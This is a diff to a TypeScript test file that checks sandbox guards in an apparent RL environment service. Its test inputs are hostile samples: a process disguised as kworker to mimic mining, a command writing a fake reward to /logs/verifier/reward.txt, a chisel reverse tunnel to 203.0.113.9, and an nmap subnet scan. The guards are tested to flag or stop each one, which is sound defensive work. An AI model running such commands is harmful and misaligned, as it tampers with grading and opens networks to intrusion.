@@ -1,11 +1,15 @@
 /** Guards of the service's sandboxes: what is seen from outside, what is stopped, and who is told. */
 
 import { afterAll, beforeAll, expect, test } from "bun:test";
+import { join } from "node:path";
+import { GemEnvironments } from "../../src/api/gem/environments.ts";
 import type { Alert } from "../../src/core/alerts.ts";
 import { GuardWatch } from "../../src/sandbox/guards/guard-watch.ts";
 import { DEFAULT_GUARDS } from "../../src/sandbox/guards/settings.ts";
 import type { ManagedSandbox } from "../../src/sandbox/service/managed-sandbox.ts";
 import { SandboxService } from "../../src/sandbox/service/sandbox-service.ts";
+import { AlertRecorder } from "../../src/store/record-alerts.ts";
+import { openStore } from "../../src/store/store.ts";
 import { compileProbe, ENVIRONMENT, file, LIMITS, openProvider, type TestProvider, text, until } from "./support.ts";
 
 const environment = { ...ENVIRONMENT, memoryBytes: 128 << 20, pids: 64 };
@@ -68,7 +72,7 @@ test("tests of their owner's may be placed in a sandbox; in one that we grade th
   for (const isGraded of [false, true]) {
     const own = await service.create({ environment, isGraded });
     await own.exec(["sh", "-c", places], inFolder);
-    await own.guard.lookAtFiles();
+    await own.guard.lookAtFiles({ environment, files: [] });
     expect(own.guard.alerts.length > 0).toBe(isGraded);
     await service.delete(own.id);
   }
@@ -82,12 +86,12 @@ test("processes and sockets are seen from outside, whatever hides them inside", 
     settings: { ...DEFAULT_GUARDS, mining: { ...DEFAULT_GUARDS.mining, windowSeconds: 1, share: 0.1 } },
   });
   await own.run("cp /probe/probe /tmp/kworker; setsid /tmp/kworker burn 30 >/dev/null 2>&1 & disown", LIMITS);
-  await own.run("python3 -m http.server 8123 >/dev/null 2>&1 & sleep 0.7", LIMITS);
+  await own.run("python3 -m http.server 8123 >/dev/null 2>&1 &", LIMITS);
+  const listener = expect.objectContaining({ state: "listen", local: { host: "0.0.0.0", port: 8123 } });
+  await until("the listener is seen", 20_000, async () => (await own.observe()).sockets.length > 0);
   const seen = await own.observe();
   expect(seen.processes.map(({ argv }) => argv.join(" "))).toContain("/tmp/kworker burn 30");
-  expect(seen.sockets).toContainEqual(
-    expect.objectContaining({ state: "listen", local: { host: "0.0.0.0", port: 8123 } }),
-  );
+  expect(seen.sockets).toContainEqual(listener);
   await until("the load is told", 30_000, async () => {
     watch.observe(await own.observe());
     await Bun.sleep(200);
@@ -122,4 +126,49 @@ test("looking for what was written follows no link and opens nothing", async () 
     "/srv/etc/hostname", // by way of a link of the sandbox's own
     "/srv/../etc/hosts",
   ]);
+});
+
+test("an environment's episode ends with a guard, ungraded, or tells what was seen", async () => {
+  const environments = new GemEnvironments({ service, maxTurns: 9 });
+  const planting = await environments.make("tasks/shell/tree");
+  await environments.reset(planting, 1);
+  const step = await environments.step(planting, "mkdir -p /logs/verifier; echo 1 > /logs/verifier/reward.txt");
+  expect(step).toMatchObject({ reward: 0, terminated: false });
+  const end = await environments.step(planting, "done");
+  expect(end).toMatchObject({ reward: 0, terminated: true, info: { stop_reason: "done" } });
+  expect(end.info.alerts).toMatchObject([
+    { kind: "protected_write" },
+    { kind: "protected_write" },
+    { kind: "protected_write" },
+  ]);
+  const tunnel = await environments.make("tasks/shell/tree");
+  await environments.reset(tunnel, 1);
+  const stopped = await environments.step(tunnel, "chisel client 203.0.113.9:8000 R:socks");
+  expect(stopped).toMatchObject({
+    reward: 0,
+    terminated: true,
+    info: { stop_reason: "guard", alerts: [{ kind: "tunnel" }] },
+  });
+  await expect(environments.step(tunnel, "ls")).rejects.toThrow("is over");
+  for (const id of [planting, tunnel]) await environments.close(id);
+});
+
+test("what the service's guards raise outlives the service", async () => {
+  const path = join(provider.stateDir, "alerts.db");
+  await (await openStore(path)).close();
+  {
+    await using recorder = new AlertRecorder(path);
+    const own = new SandboxService({
+      ...{ provider, capacity: service.admission.capacity },
+      onAlert: (alert, { id }) => recorder.add({ ...alert, sandbox: id }),
+    });
+    const made = await own.create({ environment, id: "watched" });
+    await expect(made.exec(["nmap", "-sS", "192.0.2.0/24"], inFolder)).rejects.toThrow("stopped by a guard");
+    await own.close();
+  }
+  await using store = await openStore(path, { mode: "read" });
+  expect((await store.readAlerts()).alerts).toMatchObject([
+    { kind: "scan", sandbox: "watched", action: "stop", runId: null },
+  ]);
+  expect((await store.readEvents()).map(({ type }) => type)).toEqual(["guard.alert"]);
 });
